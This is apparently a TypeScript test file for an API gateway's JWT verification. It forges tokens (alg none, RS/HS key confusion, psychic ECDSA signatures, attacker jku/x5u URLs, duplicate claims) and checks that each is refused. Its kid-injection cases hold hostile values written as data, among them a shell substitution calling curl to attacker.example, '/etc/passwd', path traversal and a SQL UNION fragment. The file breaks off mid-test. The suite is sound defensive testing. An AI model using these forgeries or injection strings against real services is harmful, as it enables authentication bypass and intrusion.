import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { rawRequest, startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { issuerYaml, startIdp, type Idp, type SignOptions } from '../helpers/idp.js';
import {
  b64url,
  duplicateClaimJson,
  psychicSignature,
  publicKeyAsSecrets,
  segments,
  signRaw,
  unsecured,
  withoutSignature,
  withPadding,
  withSpareBits,
  withTruncatedSignature,
} from '../helpers/tokens.js';
import { startRecordingUpstream, type RecordingUpstream } from '../helpers/upstream.js';
import {
  bearer,
  expectRefused,
  insufficientScope,
  invalidRequest,
  invalidToken,
  isB64token,
  noCredentials,
  refuses,
  tokenCookie,
  upgrade,
  type Refusal,
} from './auth-fixture.js';

/**
 * ATTACKS.md "Signature and algorithm", "Key selection", "Claims" and "Transport", minted for real and sent through
 * a running gateway. Every case asserts the exact SPEC §7 answer, the deny reason in the access log, that the
 * upstream saw nothing, and that the token shows up neither in the answer nor in any log line.
 *
 * Issuers: `strict` (IdP A) allows RS256 only, demands `typ: at+jwt`, `type: access` and a 1 h max age, and also
 * publishes PS256/ES256/EdDSA keys, so "a key the issuer also publishes" is real. `other` (IdP B) is a second
 * trusted issuer for substitution, with ES256 for the psychic signature. `legacy` is an HS256 shared secret.
 * `flood` (IdP C) has a refetch interval far longer than the suite, for the unknown-kid flood.
 */

const LEGACY_ISSUER = 'https://legacy.example.com';
const LEGACY_SECRET = 'attack-suite-legacy-secret-0123456789abcdef';
const LEGACY_AUDIENCE = 'legacy-api';
const FLOOD_REFETCH_INTERVAL = '1h';
const FAST_REFUSAL_MS = 200;

let idpA: Idp;
let idpB: Idp;
let idpC: Idp;
let upstream: RecordingUpstream;
let gw: TestGateway;
let attackerHits = 0;
let attacker: Server;
let attackerUrl: string;

function gatewayYaml(): string {
  return `
version: 1
server: { listen: 127.0.0.1:0 }
admin: { listen: 127.0.0.1:0 }
logging: { level: info, access_log: true }
tokens:
  - header: Authorization
  - cookie: access_token
  - query: access_token
issuers:
  strict:
    issuer: ${idpA.issuer}
    jwks_uri: ${idpA.jwksUri}
    audiences: [${idpA.audience}]
    algorithms: [RS256]
    token_types: [at+jwt]
    require_claims: { type: access }
    max_token_age: 1h
  other:
    issuer: ${idpB.issuer}
    jwks_uri: ${idpB.jwksUri}
    audiences: [${idpB.audience}]
    algorithms: [RS256, ES256]
  legacy:
    issuer: ${LEGACY_ISSUER}
    secret: ${LEGACY_SECRET}
    algorithms: [HS256]
    audiences: [${LEGACY_AUDIENCE}]
  flood:
    issuer: ${idpC.issuer}
    jwks_uri: ${idpC.jwksUri}
    audiences: [${idpC.audience}]
    jwks_cache: { min_refetch_interval: ${FLOOD_REFETCH_INTERVAL} }
upstreams:
  api: { url: ${upstream.url}, timeout: 2s }
routes:
  - name: roles
    match: { path: /roles/** }
    upstream: api
    require: { roles: [admin, owner] }
  - name: permissions
    match: { path: /permissions/** }
    upstream: api
    require: { permissions: [read, write] }
  - name: scopes
    match: { path: /scopes/** }
    upstream: api
    require: { scopes: [data:read, data:admin] }
  - name: claims
    match: { path: /claims/** }
    upstream: api
    require: { claims: { email_verified: true, tier: gold, groups: staff } }
  - name: strict-only
    match: { path: /strict-only/** }
    upstream: api
    issuers: [strict]
  - name: api
    match: { path: /** }
    upstream: api
`;
}

beforeAll(async () => {
  [idpA, idpB, idpC] = await Promise.all([startIdp(), startIdp({ keys: ['rsa', 'ec'] }), startIdp({ keys: ['rsa'] })]);
  attacker = createServer((_req, res) => {
    attackerHits++;
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [] }));
  }).listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  upstream = await startRecordingUpstream();
  gw = await startTestGateway(gatewayYaml());
});

afterAll(async () => {
  await gw?.close();
  attacker?.closeAllConnections();
  attacker?.close();
  await Promise.all([upstream?.close(), idpA?.close(), idpB?.close(), idpC?.close()]);
});

beforeEach(() => {
  upstream.seen.length = 0;
});

/** A token issuer `strict` accepts, before tampering. */
function accessToken(claims: Record<string, unknown> = {}, options: SignOptions = {}): string {
  return idpA.sign({ type: 'access', ...claims }, { ...options, header: { typ: 'at+jwt', ...options.header } });
}

function accessClaims(claims: Record<string, unknown> = {}): Record<string, unknown> {
  return idpA.claims({ type: 'access', ...claims });
}

function signedPayload(payload: string | Uint8Array): string {
  return idpA.signPayload(payload, { header: { typ: 'at+jwt' } });
}

/** The legacy issuer's claims, for tokens that claim to come from it. */
function legacyClaims(): Record<string, unknown> {
  const now = Math.floor(Date.now() / 1000);
  return { iss: LEGACY_ISSUER, aud: LEGACY_AUDIENCE, sub: 'legacy-user', iat: now, exp: now + 300 };
}

function legacyToken(claims: Record<string, unknown> = {}, alg = 'HS256', secret: string = LEGACY_SECRET): string {
  return signRaw(alg, secret, { alg, typ: 'JWT' }, { ...legacyClaims(), ...claims });
}

/**
 * One forged token, refused by the verifier for `reason`. It is sent in the Authorization header and in the
 * token cookie: the cookie always reaches the verifier, while a token that is not an RFC 6750 b64token is
 * already refused in the header as bad Bearer syntax (400), before any decoding.
 */
interface ForgedToken {
  readonly name: string;
  readonly token: () => string;
  readonly refusal: Refusal;
  /** Route to send it to; default a protected route that accepts every issuer. */
  readonly path?: string;
}

async function expectForgedTokenRefused({ token: mint, refusal, path = '/api/data' }: ForgedToken): Promise<void> {
  const token = mint();
  const inHeader = isB64token(token) ? refusal : invalidRequest('malformed_bearer');
  await refuses(gw, upstream, { target: path, headers: [bearer(token)] }, inHeader, [token]);
  await refuses(gw, upstream, { target: path, headers: [tokenCookie(token)] }, refusal, [token]);
  // Keys come from configuration only: no URL in any forged token (jku, x5u, a URL-shaped kid) is ever fetched.
  expect(attackerHits).toBe(0);
}

const malformed = invalidToken('malformed', 'malformed');

function forged(name: string, token: () => string, refusal: Refusal, path?: string): ForgedToken {
  return path === undefined ? { name, token, refusal } : { name, token, refusal, path };
}

describe('the untampered tokens pass, so every refusal below is the tampering’s doing', () => {
  it.each([
    ['strict', () => accessToken(), '/strict-only/x'],
    ['other (RS256)', () => idpB.sign(), '/api/x'],
    ['other (ES256)', () => idpB.sign({}, { key: 'ec' }), '/api/x'],
    ['legacy (HS256)', () => legacyToken(), '/api/x'],
    ['flood', () => idpC.sign(), '/api/x'],
  ])('%s', async (_name, mint, path) => {
    for (const headers of [[bearer(mint())], [tokenCookie(mint())]]) {
      const res = await rawRequest(gw.port, { target: path, headers });
      expect(res.status).toBe(200);
    }
    expect(upstream.seen).toHaveLength(2);
  });
});

describe('Signature and algorithm', () => {
  const noneSpellings = ['none', 'None', 'NONE', 'nOnE', 'NoNe'];
  const rsHsForms = ['pemWithNewline', 'pemWithoutNewline', 'der', 'jwkJson'] as const;
  const cases: ForgedToken[] = [
    ...noneSpellings.flatMap((alg) => [
      forged(`alg ${alg} with an empty signature`, () => unsecured(accessClaims(), alg), malformed),
      forged(`alg ${alg} with the signature dropped`, () => unsecured(accessClaims(), alg, { dropDot: true }), malformed),
      forged(`alg ${alg} with a signature`, () => `${unsecured(accessClaims(), alg)}c2lnbmF0dXJl`, invalidToken('algorithm', 'alg_none')),
      forged(`alg ${alg} with the real kid`, () => `${unsecured(accessClaims(), alg, { kid: idpA.key('rsa').kid })}c2ln`, invalidToken('algorithm', 'alg_none')),
    ]),
    forged('a valid token with its signature removed', () => withoutSignature(accessToken()), malformed),
    forged('a valid token with its signature truncated', () => withTruncatedSignature(accessToken(), 40), invalidToken('signature', 'bad_signature')),
    forged('a valid token with its signature cut to four characters', () => withTruncatedSignature(accessToken(), 4), invalidToken('signature', 'bad_signature')),
    forged('a valid signature over another payload', () => {
      const [header, , signature] = segments(accessToken());
      return `${header}.${segments(accessToken({ sub: 'admin' }))[1]}.${signature}`;
    }, invalidToken('signature', 'bad_signature')),
    ...rsHsForms.flatMap((form) =>
      ['HS256', 'HS384', 'HS512'].map((alg) =>
        forged(`RS→HS confusion: ${alg} with the public key as ${form}`, () => {
          const rsa = idpA.key('rsa');
          return signRaw(alg, publicKeyAsSecrets(rsa.publicKey)[form], { alg, typ: 'at+jwt', kid: rsa.kid }, accessClaims());
        }, invalidToken('algorithm', 'alg_not_allowed')),
      ),
    ),
    ...['', 'secret', 'changeme', 'your-256-bit-secret', LEGACY_SECRET].map((secret) =>
      forged(`HS256 with the secret ${JSON.stringify(secret.slice(0, 12))}… against an asymmetric issuer`, () =>
        signRaw('HS256', secret, { alg: 'HS256', typ: 'at+jwt' }, accessClaims()), invalidToken('algorithm', 'alg_not_allowed')),
    ),
    ...(['rsa-pss', 'ec', 'ed'] as const).map((type) =>
      forged(`an alg outside the allow-list, signed with the published ${type} key`, () => accessToken({}, { key: type }), invalidToken('algorithm', 'alg_not_allowed')),
    ),
    forged('RS256 in the header over a PS256 signature by a published key', () => {
      const pss = idpA.key('rsa-pss');
      const header = { alg: 'RS256', typ: 'at+jwt', kid: pss.kid };
      const [h, p] = segments(signRaw('RS256', idpA.key('rsa').privateKey, header, accessClaims()));
      return `${h}.${p}.${segments(signRaw('PS256', pss.privateKey, header, accessClaims()))[2]}`;
    }, invalidToken('signature', 'unknown_kid')),
    forged('ECDSA psychic signature (r = s = 0) with the real kid', () =>
      `${b64url(JSON.stringify({ alg: 'ES256', kid: idpB.key('ec').kid }))}.${b64url(JSON.stringify(idpB.claims()))}.${psychicSignature(32)}`,
    invalidToken('signature', 'bad_signature')),
    forged('ECDSA psychic signature (r = s = 0) without a kid', () =>
      `${b64url(JSON.stringify({ alg: 'ES256' }))}.${b64url(JSON.stringify(idpB.claims()))}.${psychicSignature(32)}`,
    invalidToken('signature', 'bad_signature')),
    forged('legacy: HS256 with a wrong secret', () => legacyToken({}, 'HS256', 'not-the-legacy-secret-but-just-as-long-000'), invalidToken('signature', 'bad_signature')),
    forged('legacy: HS512 with the right secret but outside the allow-list', () => legacyToken({}, 'HS512'), invalidToken('algorithm', 'alg_not_allowed')),
    forged('legacy: RS256 signed by a key another issuer trusts', () =>
      signRaw('RS256', idpA.key('rsa').privateKey, { alg: 'RS256', kid: idpA.key('rsa').kid }, legacyClaims()),
    invalidToken('algorithm', 'alg_not_allowed')),
    ...([0, 1, 2] as const).map((index) => forged(`= padding on segment ${index}`, () => withPadding(accessToken(), index), malformed)),
    forged('a space inside', () => accessToken().replace('.', '. '), malformed),
    forged('a space and more text after it', () => `${accessToken()} x`, malformed),
    forged('a tab inside', () => accessToken().replace('.', '.\t'), malformed),
    forged('in double quotes', () => `"${accessToken()}"`, malformed),
    ...([0, 1, 2] as const).map((index) =>
      forged(`spare bits in the last character of segment ${index}`, () => spareBitVariant(index), invalidToken('malformed', 'non_canonical')),
    ),
    forged('JWS JSON serialization (general)', () => {
      const [protectedHeader, payload, signature] = segments(accessToken());
      return JSON.stringify({ payload, signatures: [{ protected: protectedHeader, signature }] });
    }, malformed),
    forged('JWS JSON serialization (flattened)', () => {
      const [protectedHeader, payload, signature] = segments(accessToken());
      return JSON.stringify({ protected: protectedHeader, payload, signature });
    }, malformed),
    forged('JWE-like: five segments', () =>
      [JSON.stringify({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: idpA.key('rsa').kid }), 'key', 'iv', 'ciphertext', 'tag'].map(b64url).join('.'),
    malformed),
    forged('four segments', () => `${accessToken()}.${segments(accessToken())[2]}`, malformed),
    forged('crit with an unknown name, validly signed', () =>
      accessToken({}, { header: { crit: ['urn:example:unknown'], 'urn:example:unknown': 1 } }), invalidToken('malformed', 'unsupported_header')),
    forged('crit empty, validly signed', () => accessToken({}, { header: { crit: [] } }), invalidToken('malformed', 'unsupported_header')),
    forged('b64: false, validly signed', () => accessToken({}, { header: { b64: false, crit: ['b64'] } }), invalidToken('malformed', 'unsupported_header')),
    forged('an enc header on a JWS', () => accessToken({}, { header: { enc: 'A256GCM' } }), invalidToken('malformed', 'unsupported_header')),
  ];

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, attack) => {
    await expectForgedTokenRefused(attack);
  });
});

/** A valid token whose segment `index` has spare bits set (minted until the segment's length leaves some). */
function spareBitVariant(index: 0 | 1 | 2): string {
  for (let pad = 0; pad < 8; pad++) {
    const header = index === 0 ? { typ: 'at+jwt', x: 'y'.repeat(pad) } : { typ: 'at+jwt' };
    const variant = withSpareBits(accessToken({ pad: 'x'.repeat(pad) }, { header }), index);
    if (variant !== undefined) return variant;
  }
  throw new Error(`no spare bits in segment ${index}`);
}

describe('Key selection', () => {
  const spki = (): string => idpA.generateKey('rsa').publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
  const embedded = invalidToken('malformed', 'embedded_key');
  const cases: ForgedToken[] = [
    forged('embedded jwk with the attacker key and its kid', () => {
      const key = idpA.generateKey('rsa');
      return accessToken({}, { key, header: { jwk: key.jwk } });
    }, embedded),
    forged('embedded jwk with the attacker key and the real kid', () => {
      const key = idpA.generateKey('rsa');
      return accessToken({}, { key, kid: idpA.key('rsa').kid, header: { jwk: key.jwk } });
    }, embedded),
    forged('embedded jwk without a kid', () => {
      const key = idpA.generateKey('rsa');
      return accessToken({}, { key, kid: null, header: { jwk: key.jwk } });
    }, embedded),
    forged('jku at an attacker URL, attacker key', () => accessToken({}, { key: idpA.generateKey('rsa'), header: { jku: `${attackerUrl}/jwks.json` } }), embedded),
    forged('jku at an attacker URL, real key', () => accessToken({}, { header: { jku: `${attackerUrl}/jwks.json` } }), embedded),
    forged('x5u at an attacker URL', () => accessToken({}, { key: idpA.generateKey('rsa'), header: { x5u: `${attackerUrl}/cert.pem` } }), embedded),
    forged('self-signed x5c', () => accessToken({}, { key: idpA.generateKey('rsa'), kid: null, header: { x5c: [spki()] } }), embedded),
    forged('jku and x5u together, real kid', () =>
      accessToken({}, { header: { jku: `${attackerUrl}/jwks.json`, x5u: `${attackerUrl}/cert.pem` } }), embedded),
    ...([
      ['path traversal', '../../../../../../dev/null', 'unknown_kid'],
      ['an absolute path', '/etc/passwd', 'unknown_kid'],
      ['a URL', 'https://attacker.example/jwks.json', 'unknown_kid'],
      ['SQL fragment', "x' UNION SELECT 'secret' --", 'unknown_kid'],
      ['shell metacharacters', '$(curl attacker.example)|`id`;', 'unknown_kid'],
      ['an empty string', '', 'bad_kid'],
      ['a very long string', 'k'.repeat(3000), 'bad_kid'],
      ['a NUL byte', 'rsa\u0000', 'bad_kid'],
      ['a newline', 'rsa\nX-Injected: 1', 'bad_kid'],
      ['a number', 1, 'bad_kid'],
      ['null', null, 'bad_kid'],
      ['an object', { $ne: '' }, 'bad_kid'],
      ['an array', ['rsa'], 'bad_kid'],
    ] as const).map(([name, kid, reason]) =>
      forged(`kid injection: ${name}`, () => signRaw('RS256', idpA.key('rsa').privateKey, { alg: 'RS256', typ: 'at+jwt', kid }, accessClaims()),
        reason === 'bad_kid' ? invalidToken('malformed', 'bad_kid') : invalidToken('signature', 'unknown_kid')),
    ),
    forged("cross-issuer: strict's iss signed with other's key and kid", () => accessToken({}, { key: idpB.key('rsa') }), invalidToken('signature', 'unknown_kid')),
    forged("cross-issuer: strict's iss signed with other's key under strict's kid", () =>
      accessToken({}, { key: idpB.key('rsa'), kid: idpA.key('rsa').kid }), invalidToken('signature', 'bad_signature')),
    forged("cross-issuer: strict's iss signed with other's key, no kid", () =>
      accessToken({}, { key: idpB.key('rsa'), kid: null }), invalidToken('signature', 'bad_signature')),
    forged("cross-issuer: other's iss signed with strict's key and kid", () => idpB.sign({}, { key: idpA.key('rsa') }), invalidToken('signature', 'unknown_kid')),
    forged("cross-issuer: other's iss signed with strict's key under other's kid", () =>
      idpB.sign({}, { key: idpA.key('rsa'), kid: idpB.key('rsa').kid }), invalidToken('signature', 'bad_signature')),
    forged("cross-issuer: legacy's iss signed with strict's key", () =>
      signRaw('RS256', idpA.key('rsa').privateKey, { alg: 'RS256', kid: idpA.key('rsa').kid }, legacyClaims()), invalidToken('algorithm', 'alg_not_allowed')),
    forged('a route that accepts only strict refuses a valid token of other', () => idpB.sign(), invalidToken('issuer', 'issuer_not_allowed'), '/strict-only/x'),
    forged('a route that accepts only strict refuses a valid legacy token', () => legacyToken(), invalidToken('issuer', 'issuer_not_allowed'), '/strict-only/x'),
  ];

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, attack) => {
    await expectForgedTokenRefused(attack);
  });

  it('a flood of unknown kids is refused, and makes the IdP’s JWKS fetched at most once per refetch interval', async () => {
    // The whole test runs inside one refetch interval, counted from the start-up fetch. That a due refetch is
    // shared by a concurrent burst (single-flight) is shown with an injected clock in test/auth/authenticator.test.ts.
    const before = idpC.jwksFetches;
    const flood = Array.from({ length: 200 }, (_, i) => idpC.sign({}, { kid: `unknown-${i}` }));
    const answers = await Promise.all(flood.map((token) => rawRequest(gw.port, { target: '/api/x', headers: [bearer(token)] })));
    expect(answers.map((res) => res.status)).toEqual(flood.map(() => 401));
    expect(upstream.seen).toEqual([]);
    for (const token of flood.slice(0, 20)) {
      await refuses(gw, upstream, { target: '/api/x', headers: [bearer(token)] }, invalidToken('signature', 'unknown_kid'), [token]);
    }
    expect(idpC.jwksFetches - before).toBeLessThanOrEqual(1);
  });
});

describe('Claims', () => {
  const now = (): number => Math.floor(Date.now() / 1000);
  const claimsOf = (claims: Record<string, unknown>) => () => accessToken(claims);
  const cases: ForgedToken[] = [
    forged('exp missing', claimsOf({ exp: undefined }), invalidToken('expired', 'expired')),
    forged('exp a string', claimsOf({ exp: 'tomorrow' }), invalidToken('expired', 'expired')),
    forged('exp a numeric string', () => accessToken({ exp: String(now() + 300) }), invalidToken('expired', 'expired')),
    forged('exp null', claimsOf({ exp: null }), invalidToken('expired', 'expired')),
    forged('exp an array', () => accessToken({ exp: [now() + 300] }), invalidToken('expired', 'expired')),
    forged('exp not finite (1e400)', () => signedPayload(JSON.stringify(accessClaims({ exp: 0 })).replace('"exp":0', '"exp":1e400')), invalidToken('expired', 'expired')),
    forged('exp huge (year 33658), beyond max_token_age', () => accessToken({ exp: 1e12 }), invalidToken('tooOld', 'too_old')),
    forged('exp in the past beyond clock skew', () => accessToken({ exp: now() - 31 }), invalidToken('expired', 'expired')),
    forged('exp long past', () => accessToken({ iat: now() - 4000, exp: now() - 3000 }), invalidToken('expired', 'expired')),
    forged('nbf in the future beyond skew', () => accessToken({ nbf: now() + 120 }), invalidToken('notYetValid', 'not_yet_valid')),
    forged('iat in the future beyond skew', () => accessToken({ iat: now() + 120 }), invalidToken('notYetValid', 'not_yet_valid')),
    forged('nbf not numeric', claimsOf({ nbf: 'now' }), invalidToken('claims', 'claims')),
    forged('exp - iat longer than max_token_age', () => accessToken({ iat: now() - 10, exp: now() - 10 + 7200 }), invalidToken('tooOld', 'too_old')),
    forged('issued longer ago than max_token_age', () => accessToken({ iat: now() - 7200, exp: now() + 60 }), invalidToken('tooOld', 'too_old')),
    ...([
      ['with a trailing slash added', (iss: string) => `${iss}/`],
      ['with the trailing slash removed', (iss: string) => iss.replace(/\/$/, '')],
      ['in other case', (iss: string) => iss.toUpperCase()],
      ['with a trailing space', (iss: string) => `${iss} `],
      ['missing', () => undefined],
      ['an array', (iss: string) => [iss]],
      ['an object', (iss: string) => ({ iss })],
      ['a number', () => 1],
    ] as const).map(([name, mutate]) => forged(`iss ${name}`, () => accessToken({ iss: mutate(idpA.issuer) }), invalidToken('issuer', 'unknown_issuer'))),
    forged('aud missing', claimsOf({ aud: undefined }), invalidToken('audience', 'audience')),
    forged("aud another service's", claimsOf({ aud: 'https://billing.test' }), invalidToken('audience', 'audience')),
    forged('aud with a trailing slash', claimsOf({ aud: 'https://api.test/' }), invalidToken('audience', 'audience')),
    forged('aud in other case', claimsOf({ aud: 'HTTPS://API.TEST' }), invalidToken('audience', 'audience')),
    forged("aud a list of other services'", claimsOf({ aud: ['https://billing.test', 'https://mail.test'] }), invalidToken('audience', 'audience')),
    forged('aud an empty list', claimsOf({ aud: [] }), invalidToken('audience', 'audience')),
    ...([
      ['an ID token (JWT)', 'JWT'],
      ['a DPoP proof', 'dpop+jwt'],
      ['a logout token', 'logout+jwt'],
      ['a secevent', 'secevent+jwt'],
      ['no typ at all', undefined],
    ] as const).map(([name, typ]) => forged(`typ: ${name}`, () => accessToken({}, { header: { typ } }), invalidToken('type', 'type'))),
    forged('a refresh token where type: access is required', claimsOf({ type: 'refresh' }), invalidToken('claims', 'claims')),
    forged('an ID token where type: access is required', claimsOf({ type: 'id', nonce: 'n' }), invalidToken('claims', 'claims')),
    forged('type missing where type: access is required', claimsOf({ type: undefined }), invalidToken('claims', 'claims')),
    forged('sub a number', claimsOf({ sub: 12345 }), invalidToken('claims', 'claims')),
    forged('sub an object', claimsOf({ sub: { id: 'admin' } }), invalidToken('claims', 'claims')),
    forged('sub an array', claimsOf({ sub: ['admin'] }), invalidToken('claims', 'claims')),
    forged('sub null', claimsOf({ sub: null }), invalidToken('claims', 'claims')),
    forged('duplicate sub (user, then admin)', () => {
      const { sub: _sub, ...rest } = accessClaims();
      return signedPayload(duplicateClaimJson(rest, 'sub', '"user-1"', '"admin"'));
    }, invalidToken('malformed', 'duplicate_claims')),
    forged('duplicate sub, the second one escaped', () => signedPayload(JSON.stringify(accessClaims()).replace('{', '{"s\\u0075b":"admin",')), invalidToken('malformed', 'duplicate_claims')),
    forged('duplicate exp', () => {
      const { exp: _exp, ...rest } = accessClaims();
      return signedPayload(duplicateClaimJson(rest, 'exp', String(now() - 60), String(now() + 99999)));
    }, invalidToken('malformed', 'duplicate_claims')),
    forged('duplicate nested roles', () =>
      signedPayload(JSON.stringify(accessClaims({ realm: { roles: ['user'] } })).replace('"roles":["user"]', '"roles":["user"],"roles":["admin"]')),
    invalidToken('malformed', 'duplicate_claims')),
    forged('invalid UTF-8 in the payload', () => {
      const bytes = Buffer.from(JSON.stringify(accessClaims({ name: 'XX' })));
      const at = bytes.indexOf('XX');
      bytes[at] = 0xc3;
      bytes[at + 1] = 0x28;
      return signedPayload(bytes);
    }, invalidToken('malformed', 'invalid_utf8')),
    forged('a lone UTF-16 surrogate encoded as UTF-8 bytes', () => {
      const bytes = Buffer.from(JSON.stringify(accessClaims({ name: 'XXX' })));
      bytes.set([0xed, 0xa0, 0x80], bytes.indexOf('XXX'));
      return signedPayload(bytes);
    }, invalidToken('malformed', 'invalid_utf8')),
    ...['[]', '"a string"', '42', 'null', 'true', '[{"sub":"admin"}]'].map((payload) =>
      forged(`a non-object payload: ${payload}`, () => signedPayload(payload), malformed),
    ),
    forged('a payload that is not JSON', () => signedPayload('sub=admin&exp=9999999999'), malformed),
  ];

  it.each(cases.map((c) => [c.name, c] as const))('%s', async (_name, attack) => {
    await expectForgedTokenRefused(attack);
  });
});

describe('Authorization rules: near-misses are 403 and never reach the upstream', () => {
  const rolesRefusal = insufficientScope('roles');
  const permissionsRefusal = insufficientScope('permissions');
  const scopesRefusal = insufficientScope('scopes', ['data:read', 'data:admin']);
  const claimsRefusal = insufficientScope('claims');
  const goodClaims = { email_verified: true, tier: 'gold', groups: ['staff', 'eng'] };
  const cases: Array<[name: string, path: string, claims: Record<string, unknown>, refusal: Refusal]> = [
    ['roles missing', '/roles/x', {}, rolesRefusal],
    ['roles empty', '/roles/x', { roles: [] }, rolesRefusal],
    ['role administrator is not admin', '/roles/x', { roles: ['administrator'] }, rolesRefusal],
    ['role Admin is not admin', '/roles/x', { roles: ['Admin'] }, rolesRefusal],
    ['role "admin " is not admin', '/roles/x', { roles: ['admin '] }, rolesRefusal],
    ['a comma list in one string is one role', '/roles/x', { roles: 'user,admin' }, rolesRefusal],
    ['roles nested in an object', '/roles/x', { roles: { admin: true } }, rolesRefusal],
    ['roles under another claim name', '/roles/x', { role: ['admin'] }, rolesRefusal],
    ['permission readwrite is not read', '/permissions/x', { permissions: ['readwrite'] }, permissionsRefusal],
    ['only one of the two permissions', '/permissions/x', { permissions: ['read'] }, permissionsRefusal],
    ['write and reader', '/permissions/x', { permissions: ['write', 'reader'] }, permissionsRefusal],
    ['both in one space-separated string', '/permissions/x', { permissions: 'read write' }, permissionsRefusal],
    ['scope data:readwrite is not data:read', '/scopes/x', { scope: 'data:readwrite' }, scopesRefusal],
    ['scope data:read:all', '/scopes/x', { scope: 'data:read:all openid' }, scopesRefusal],
    ['scope in other case', '/scopes/x', { scope: 'DATA:READ' }, scopesRefusal],
    ['scope prefix only', '/scopes/x', { scope: 'data' }, scopesRefusal],
    ['scopes comma-separated', '/scopes/x', { scope: 'openid,data:read' }, scopesRefusal],
    ['scope under scp', '/scopes/x', { scp: 'data:read' }, scopesRefusal],
    ['email_verified "true" (a string)', '/claims/x', { ...goodClaims, email_verified: 'true' }, claimsRefusal],
    ['email_verified 1', '/claims/x', { ...goodClaims, email_verified: 1 }, claimsRefusal],
    ['email_verified false', '/claims/x', { ...goodClaims, email_verified: false }, claimsRefusal],
    ['email_verified missing', '/claims/x', { ...goodClaims, email_verified: undefined }, claimsRefusal],
    ['tier golden is not gold', '/claims/x', { ...goodClaims, tier: 'golden' }, claimsRefusal],
    ['tier [silver]', '/claims/x', { ...goodClaims, tier: ['silver'] }, claimsRefusal],
    ['groups without staff', '/claims/x', { ...goodClaims, groups: ['staffing', 'Staff'] }, claimsRefusal],
  ];

  it.each(cases)('%s', async (_name, path, claims, refusal) => {
    const token = accessToken(claims);
    await refuses(gw, upstream, { target: path, headers: [bearer(token)] }, refusal, [token]);
  });

  it.each([
    ['/roles/x', { roles: ['user', 'owner'] }],
    ['/permissions/x', { permissions: ['write', 'read', 'delete'] }],
    ['/scopes/x', { scope: 'openid data:admin' }],
    ['/scopes/x', { scope: ['data:read'] }],
    ['/claims/x', goodClaims],
  ])('the rule on %s holds for %j', async (path, claims) => {
    const res = await rawRequest(gw.port, { target: path, headers: [bearer(accessToken(claims))] });
    expect(res.status).toBe(200);
    expect(upstream.seen).toHaveLength(1);
  });
});

describe('Transport', () => {
  const valid = (): string => accessToken();

  it.each([
    ['no credentials at all', () => []],
    ['Authorization: Basic', () => [['Authorization', `Basic ${Buffer.from('admin:admin').toString('base64')}`]]],
    ['Authorization: Digest', () => [['Authorization', 'Digest username="admin", realm="x", response="y"']]],
    ['a scheme that only starts with Bearer', () => [['Authorization', `Bearerx ${valid()}`]]],
    ['an empty token cookie', () => [['Cookie', 'access_token=; theme=dark']]],
    ['another cookie only', () => [['Cookie', 'session=abc']]],
  ] as Array<[string, () => Array<[string, string]>]>)('%s → 401 without an error code', async (_name, headers) => {
    await refuses(gw, upstream, { target: '/api/x', headers: headers() }, noCredentials);
  });

  it.each([
    ['Bearer alone', () => 'Bearer'],
    ['Bearer and spaces', () => 'Bearer    '],
    ['extra words after the token', (t: string) => `Bearer ${t} extra`],
    ['two tokens', (t: string) => `Bearer ${t} ${t}`],
    ['a colon instead of a space', (t: string) => `Bearer:${t}`],
    ['a comma after the token', (t: string) => `Bearer ${t},`],
    ['a quoted token', (t: string) => `Bearer "${t}"`],
    ['a tab instead of a space', (t: string) => `Bearer\t${t}`],
    ['the token as an auth-param', (t: string) => `Bearer token="${t}"`],
    ['a token with an inner space', (t: string) => `Bearer ${t.replace('.', '. ')}`],
  ])('malformed Bearer syntax: %s → 400', async (_name, header) => {
    const token = valid();
    await refuses(gw, upstream, { target: '/api/x', headers: [['Authorization', header(token)]] }, invalidRequest('malformed_bearer'), [token]);
  });

  it.each([
    ['valid, then garbage', () => [bearer(valid()), ['Authorization', 'Bearer garbage']]],
    ['garbage, then valid', () => [['Authorization', 'Bearer garbage'], bearer(valid())]],
    ['valid, then Basic', () => [bearer(valid()), ['Authorization', 'Basic YWRtaW46YWRtaW4=']]],
    ['Basic, then valid', () => [['Authorization', 'Basic YWRtaW46YWRtaW4='], bearer(valid())]],
    ['the same valid token twice', () => {
      const token = valid();
      return [bearer(token), bearer(token)];
    }],
    ['two valid tokens, differently cased names', () => [bearer(valid()), ['authorization', `Bearer ${valid()}`]]],
  ] as Array<[string, () => Array<[string, string]>]>)('two Authorization headers: %s → 400', async (_name, headers) => {
    const sent = headers();
    await refuses(gw, upstream, { target: '/api/x', headers: sent }, invalidRequest('multiple_authorization_headers'), sent.map(([, v]) => v));
  });

  it.each([
    ['header and cookie, the same token', (t: string) => ({ target: '/api/x', headers: [bearer(t), tokenCookie(t)] }), 'multiple_token_sources'],
    ['header and cookie, another token', (t: string) => ({ target: '/api/x', headers: [bearer(t), tokenCookie(idpB.sign())] }), 'multiple_token_sources'],
    ['cookie then header', (t: string) => ({ target: '/api/x', headers: [tokenCookie(t), bearer(t)] }), 'multiple_token_sources'],
    ['two token cookies in one header', (t: string) => ({ target: '/api/x', headers: [['Cookie', `access_token=${t}; access_token=${t}`]] }), 'multiple_token_cookies'],
    ['two token cookies in two headers', (t: string) => ({ target: '/api/x', headers: [tokenCookie(t), tokenCookie(t)] }), 'multiple_token_cookies'],
    ['header and query on a plain request', (t: string) => ({ target: `/api/x?access_token=${t}`, headers: [bearer(t)] }), 'query_token_not_upgrade'],
    ['a query token on a plain request', (t: string) => ({ target: `/api/x?access_token=${t}` }), 'query_token_not_upgrade'],
    ['a query token under an encoded name', (t: string) => ({ target: `/api/x?access%5Ftoken=${t}` }), 'query_token_not_upgrade'],
    ['two query tokens', (t: string) => ({ target: `/api/x?access_token=${t}&access_token=${t}` }), 'multiple_query_tokens'],
    ['a query token with invalid percent-encoding', () => ({ target: '/api/x?access_token=%ZZ' }), 'malformed_query_token'],
  ] as Array<[string, (t: string) => { target: string; headers?: Array<[string, string]> }, string]>)(
    'a token in two places or where it is not accepted: %s → 400',
    async (_name, request, reason) => {
      const token = valid();
      await refuses(gw, upstream, request(token), invalidRequest(reason), [token]);
    },
  );

  it.each([
